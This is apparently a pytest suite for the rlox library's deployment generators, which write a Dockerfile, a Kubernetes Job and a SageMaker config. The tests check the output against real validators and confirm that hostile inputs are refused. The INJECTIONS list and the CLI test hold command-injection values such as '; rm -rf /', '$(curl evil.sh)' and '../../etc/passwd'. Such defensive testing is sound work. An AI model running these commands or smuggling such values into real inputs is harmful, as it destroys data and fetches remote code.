"""rlox.deploy: the generated files pass the real tools' checks, and no bad or hostile value gets in."""
import inspect
import io
import json
from pathlib import Path

import numpy as np
import pytest
import yaml

from rlox.deploy import (generate_dockerfile, generate_k8s_job, generate_sagemaker_config,
                         sagemaker_training_job_request, write_deployment)

INJECTIONS = ["; rm -rf /", "$(curl evil.sh)", "`id`", "a\nRUN rm -rf /", "x\n---\nkind: Pod", 'a"b', "a'b",
              "a b", "x|y", "x&&y", "${HOME}", "../../etc/passwd", "\x00", ""]

DOCKER_OK = dict(checkpoint_path="checkpoints/ppo.pt", algorithm="ppo", env="CartPole-v1",
                 base_image="python:3.12-slim")
K8S_OK = dict(name="rlox-training", image="my-registry/rlox-agent:latest", gpu=1, memory="8Gi", cpu="2",
              namespace="ml")
SM_OK = dict(algorithm="ppo", env="CartPole-v1", instance_type="ml.g4dn.xlarge")


# ---------------------------------------------------------------- the real tools accept the output
def test_dockerfile_parses_and_runs_nothing_through_a_shell():
    from dockerfile_parse import DockerfileParser

    text = generate_dockerfile(**DOCKER_OK, port=9000)
    parser = DockerfileParser(fileobj=io.BytesIO(text.encode()))
    instructions = [(i["instruction"], i["value"]) for i in parser.structure if i["instruction"] != "COMMENT"]
    kinds = [k for k, _ in instructions]
    assert parser.baseimage == "python:3.12-slim"
    assert kinds[:1] == ["FROM"] and kinds[-1] == "CMD" and "HEALTHCHECK" in kinds and "USER" in kinds
    for kind, value in instructions:
        if kind in ("RUN", "CMD", "COPY"):   # exec form: a JSON array, run without /bin/sh -c
            argv = json.loads(value)
            assert isinstance(argv, list) and all(isinstance(a, str) for a in argv), (kind, value)
    cmd = json.loads(dict(instructions)["CMD"])
    assert cmd[:4] == ["python", "-m", "rlox", "serve"] and cmd[-1] == "9000"
    copy = json.loads(dict(instructions)["COPY"])
    assert copy[0] == "checkpoints/ppo.pt"
    runs = [json.loads(v) for k, v in instructions if k == "RUN"]
    assert any(r[:4] == ["python", "-m", "rlox", "export"] and "CartPole-v1" in r for r in runs)
    assert ("EXPOSE", "9000") in instructions


def _k8s_roundtrip(manifest: str) -> dict:
    """Deserialize into the kubernetes client's V1Job model and back: every field must be a Job field
    of the right type (unknown ones would be dropped and the comparison fail)."""
    from kubernetes.client import ApiClient

    data = yaml.safe_load(manifest)

    class Response:  # kubernetes < 35 takes a response object, later ones the text
        def __init__(self, body):
            self.data = json.dumps(body)

    api = ApiClient()
    if "response_text" in inspect.signature(api.deserialize).parameters:
        job = api.deserialize(json.dumps(data), "V1Job", "application/json")
    else:
        job = api.deserialize(Response(data), "V1Job")
    assert api.sanitize_for_serialization(job) == data
    return data


def test_k8s_job_validates_against_the_job_model():
    from kubernetes.utils import parse_quantity

    data = _k8s_roundtrip(generate_k8s_job(**K8S_OK, command=["python", "-m", "rlox"], args=["train"],
                                           env_vars={"RLOX_SEED": "3"}, active_deadline_seconds=600))
    assert data["apiVersion"] == "batch/v1" and data["kind"] == "Job"
    c = data["spec"]["template"]["spec"]["containers"][0]
    assert c["resources"]["limits"]["nvidia.com/gpu"] == "1"
    assert parse_quantity(c["resources"]["limits"]["memory"]) == 8 * 2**30
    assert c["command"] == ["python", "-m", "rlox"] and c["env"] == [{"name": "RLOX_SEED", "value": "3"}]
    no_gpu = _k8s_roundtrip(generate_k8s_job("cpu-job", "python:3.12", gpu=0, memory="512Mi", cpu="500m"))
    assert "nvidia.com/gpu" not in no_gpu["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]


def test_sagemaker_request_validates_against_the_aws_api_model():
    botocore = pytest.importorskip("botocore.session", reason="botocore (dev extra) checks the AWS API model")
    from botocore.validate import ParamValidator

    cfg = generate_sagemaker_config(**SM_OK, total_timesteps=5000, seed=3)
    assert cfg["instance_type"] == "ml.g4dn.xlarge" and cfg["container_arguments"][:4] == ["--algo", "ppo", "--env",
                                                                                            "CartPole-v1"]
    request = sagemaker_training_job_request(cfg, job_name="rlox-ppo-1",
                                             role="arn:aws:iam::123456789012:role/SageMakerRole",
                                             image_uri="123456789012.dkr.ecr.us-east-1.amazonaws.com/rlox:0.1",
                                             output_path="s3://my-bucket/rlox")
    shape = botocore.get_session().get_service_model("sagemaker").operation_model("CreateTrainingJob").input_shape
    report = ParamValidator().validate(request, shape)
    assert not report.has_errors(), report.generate_report()
    bad = dict(request, ResourceConfig=dict(request["ResourceConfig"], InstanceCount="1"))  # it does catch errors
    assert ParamValidator().validate(bad, shape).has_errors()
    with pytest.raises(ValueError, match="role is needed"):
        sagemaker_training_job_request(cfg, job_name="j", image_uri="a:b", output_path="s3://my-bucket/x")


def test_sagemaker_config_binds_to_the_sdk_estimator():
    estimator = pytest.importorskip("sagemaker.estimator", reason="the SageMaker SDK v2 (Estimator) is not "
                                    "installed; v3 has no Estimator and v2 pins clash with ours")
    import inspect

    cfg = generate_sagemaker_config(**SM_OK, image_uri="rlox:1", role="SageMakerRole")
    inspect.signature(estimator.Estimator).bind(**cfg)


# ---------------------------------------------------------------- every field refuses bad and hostile values
FIELDS = [(generate_dockerfile, DOCKER_OK, f) for f in ("checkpoint_path", "algorithm", "env", "base_image")] + \
         [(generate_k8s_job, K8S_OK, f) for f in ("name", "image", "memory", "cpu", "namespace")] + \
         [(generate_sagemaker_config, SM_OK, f) for f in ("algorithm", "env", "instance_type")] + \
         [(generate_sagemaker_config, SM_OK, f) for f in ("image_uri", "role", "output_path", "base_job_name")]


@pytest.mark.parametrize("fn,good,field", FIELDS, ids=[f"{fn.__name__}-{f}" for fn, _, f in FIELDS])
@pytest.mark.parametrize("value", INJECTIONS, ids=range(len(INJECTIONS)))
def test_injection_strings_are_refused_naming_the_field(fn, good, field, value):
    with pytest.raises(ValueError, match=f"^{field}=.* is not valid: expected "):
        fn(**dict(good, **{field: value}))


@pytest.mark.parametrize("value", INJECTIONS[:-1])
def test_argv_fields_carry_hostile_strings_only_as_data(value):
    """command/args are argv lists run without a shell: a hostile string is one list item, or refused
    when it holds a control character (a newline could not survive a shell or a log line intact)."""
    if any(ord(c) < 32 for c in value):
        with pytest.raises(ValueError, match=r"^args\[1\]=.*control characters"):
            generate_k8s_job(**K8S_OK, args=["train", value])
        with pytest.raises(ValueError, match=r"^env_vars\['X'\]=.*control characters"):
            generate_k8s_job(**K8S_OK, env_vars={"X": value})
        return
    manifest = generate_k8s_job(**K8S_OK, command=[value], args=["train", value], env_vars={"X": value})
    docs = list(yaml.safe_load_all(manifest))
    assert len(docs) == 1
    c = _k8s_roundtrip(manifest)["spec"]["template"]["spec"]["containers"][0]
    assert c["command"] == [value] and c["args"] == ["train", value] and c["env"] == [{"name": "X", "value": value}]


@pytest.mark.parametrize("kwargs,field,expected", [
    (dict(name="RLox"), "name", "DNS-1123 label"),
    (dict(name="a" * 64), "name", "DNS-1123 label"),
    (dict(name="-job"), "name", "DNS-1123 label"),
    (dict(image="Registry/UPPER:1"), "image", "OCI image reference"),
    (dict(image="repo:" + "t" * 129), "image", "OCI image reference"),
    (dict(image="repo@sha256:abc"), "image", "OCI image reference"),
    (dict(memory="8GB"), "memory", "Kubernetes quantity"),
    (dict(memory="-1Gi"), "memory", "Kubernetes quantity"),
    (dict(memory="0"), "memory", "Kubernetes quantity"),
    (dict(cpu="two"), "cpu", "Kubernetes quantity"),
    (dict(gpu=-1), "gpu", "integer >= 0"),
    (dict(namespace="Prod"), "namespace", "DNS-1123 label"),
])
def test_k8s_bad_values(kwargs, field, expected):
    with pytest.raises(ValueError, match=f"^{field}=.*{expected}"):
        generate_k8s_job(**dict(K8S_OK, **kwargs))


def test_good_values_of_each_grammar_are_accepted():
    for image in ("python:3.12-slim", "ghcr.io/org/team/rlox-agent:v1.0", "localhost:5000/rlox",
                  "rlox@sha256:" + "a" * 64, "my-registry/rlox-agent:latest", "docker.io/library/python"):
        generate_k8s_job("j", image)
    for q in ("8Gi", "512Mi", "1.5", "500m", "1e3", "2"):
        generate_k8s_job("j", "python:3", memory=q, cpu=q)
    for it in ("ml.m5.large", "ml.p4d.24xlarge", "ml.trn1.32xlarge", "ml.t3.medium", "local"):
        generate_sagemaker_config("ppo", "CartPole-v1", it)
    for path in ("model.pt", "./runs/a_b/ppo-1.pt", "checkpoints/ppo_cartpole.pt"):
        generate_dockerfile(path, "ppo", "ALE/Pong-v5")


@pytest.mark.parametrize("value", [True, 1.0, "1", None])
def test_gpu_must_be_an_int(value):
    with pytest.raises(TypeError, match="gpu must be an int"):
        generate_k8s_job(**dict(K8S_OK, gpu=value))


def test_unknown_algorithm_and_bad_paths_name_the_expected_form():
    with pytest.raises(ValueError, match=r"^algorithm='ppo2' .*registered algorithm, one of \[.*'ppo'"):
        generate_dockerfile(**dict(DOCKER_OK, algorithm="ppo2"))
    for path in ("/etc/passwd", "../model.pt", "a/../../b.pt", "-rf.pt", ".hidden/x.pt", ".", "a b.pt"):
        with pytest.raises(ValueError, match="^checkpoint_path=.*relative path inside the Docker build context"):
            generate_dockerfile(**dict(DOCKER_OK, checkpoint_path=path))
    with pytest.raises(ValueError, match=r"^instance_type='g4dn.xlarge' .*ml\.<family>\.<size>"):
        generate_sagemaker_config(**dict(SM_OK, instance_type="g4dn.xlarge"))
    with pytest.raises(ValueError, match="^port=0 "):
        generate_dockerfile(**DOCKER_OK, port=0)


# ---------------------------------------------------------------- python -m rlox deploy
def test_cli_writes_the_three_files(tmp_path, capsys):
    from rlox.cli import main

    out = tmp_path / "dep"
    assert main(["deploy", "--checkpoint", "checkpoints/ppo.pt", "--algo", "ppo", "--env", "CartPole-v1",
                 "--out", str(out), "--gpu", "1", "--memory", "2Gi"]) == 0
    assert sorted(p.name for p in out.iterdir()) == ["Dockerfile", "k8s-job.yaml", "sagemaker.json"]
    assert _k8s_roundtrip((out / "k8s-job.yaml").read_text())["metadata"]["name"] == "rlox-ppo"
    assert json.loads((out / "sagemaker.json").read_text())["instance_type"] == "ml.m5.large"
    assert "FROM python:3.12-slim" in (out / "Dockerfile").read_text()
    assert main(["deploy", "--checkpoint", "x.pt; rm -rf /", "--algo", "ppo", "--env", "CartPole-v1",
                 "--out", str(tmp_path / "bad")]) == 1
    assert "rlox: error: checkpoint_path='x.pt; rm -rf /' is not valid" in capsys.readouterr().err
    assert not (tmp_path / "bad").exists()  # validated before anything is written


def test_cli_export_and_deploy_read_algo_and_env_from_the_checkpoint(tmp_path, capsys, monkeypatch):
    from rlox import Trainer
    from rlox.cli import main
    from rlox.inference import InferencePolicy

    monkeypatch.chdir(tmp_path)
    trainer = Trainer("a2c", env="Acrobot-v1", seed=0)
    trainer.train(total_timesteps=200)
    trainer.save("m.pt")
    # export: no --algo; the artifacts act as the trained policy does
    assert main(["export", "--checkpoint", "m.pt", "--out", "art"]) == 0
    assert "wrote inference artifacts of a2c to art" in capsys.readouterr().out
    obs = np.random.default_rng(0).normal(size=(6, 6)).astype(np.float32)
    np.testing.assert_array_equal(InferencePolicy.load("art").act(obs), trainer.predict(obs, deterministic=True))
    # deploy: --algo and --env from the file; either may still be given
    assert main(["deploy", "--checkpoint", "m.pt", "--out", "dep"]) == 0
    docker = (tmp_path / "dep" / "Dockerfile").read_text()
    assert '"--algo", "a2c", "--env", "Acrobot-v1"' in docker
    assert _k8s_roundtrip((tmp_path / "dep" / "k8s-job.yaml").read_text())["metadata"]["name"] == "rlox-a2c"
    assert main(["deploy", "--checkpoint", "m.pt", "--env", "CartPole-v1", "--out", "dep2"]) == 0
    assert '"--algo", "a2c", "--env", "CartPole-v1"' in (tmp_path / "dep2" / "Dockerfile").read_text()
    capsys.readouterr()
    assert main(["deploy", "--checkpoint", "elsewhere/m.pt", "--out", "dep3"]) == 1
    assert ("--algo and --env not given and the checkpoint 'elsewhere/m.pt' is not a file here to read them "
            "from; pass --algo and --env") in capsys.readouterr().err
    assert not (tmp_path / "dep3").exists()


def test_write_deployment_validates_everything_before_writing(tmp_path):
    with pytest.raises(ValueError, match="^memory="):
        write_deployment(tmp_path / "d", checkpoint_path="m.pt", algorithm="ppo", env="CartPole-v1", memory="lots")
    assert not (tmp_path / "d").exists()
    paths = write_deployment(tmp_path / "d", checkpoint_path="m.pt", algorithm="ppo", env="CartPole-v1")
    assert all(Path(p).is_file() for p in paths.values())
